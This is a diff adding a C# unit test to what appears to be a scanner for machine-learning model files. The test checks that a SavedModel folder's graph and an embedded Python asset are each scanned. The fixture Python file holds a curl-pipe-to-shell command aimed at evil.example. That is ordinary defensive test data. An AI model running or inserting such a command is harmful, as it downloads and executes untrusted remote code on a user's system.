@@ -126,4 +126,28 @@ public sealed class TensorFlowTests
         ModelScanResult metadata = Scan.Bytes(keras, "keras_metadata.pb");
         Assert.DoesNotContain(metadata.Format, new[] { "TensorFlowSavedModel", "Onnx", "TensorFlowGraphDef", "TensorFlowMetaGraph", "Protobuf" });
     }
+
+    [Fact]
+    public void A_saved_model_folder_scans_its_graph_and_hands_python_files_to_the_text_scanner()
+    {
+        string folder = Directory.CreateTempSubdirectory("ma-savedmodel-").FullName;
+        try
+        {
+            File.WriteAllBytes(Path.Combine(folder, "saved_model.pb"), BenignTf2SavedModel());
+            Directory.CreateDirectory(Path.Combine(folder, "assets"));
+            File.WriteAllText(Path.Combine(folder, "assets", "preprocess.py"), "import os\nos.system('curl http://evil.example/x | sh')\n");
+            var options = new Scanning.ScanOptions { Recurse = true };
+            var engine = new Scanning.ScanEngine(options);
+            var results = Sources.LocalFileSource.Enumerate(folder, options, _ => { }).Select(i => engine.Scan(i, CancellationToken.None)).ToArray();
+            ModelScanResult graph = Assert.Single(results, r => r.Path.EndsWith("saved_model.pb", StringComparison.Ordinal));
+            Assert.Equal(ScanOutcome.Clean, graph.Outcome);
+            ModelScanResult script = Assert.Single(results, r => r.Path.EndsWith("preprocess.py", StringComparison.Ordinal));
+            Assert.Equal("Text", script.Format);
+            Assert.NotEqual(ScanOutcome.Inconclusive, script.Outcome);
+        }
+        finally
+        {
+            Directory.Delete(folder, recursive: true);
+        }
+    }
 }
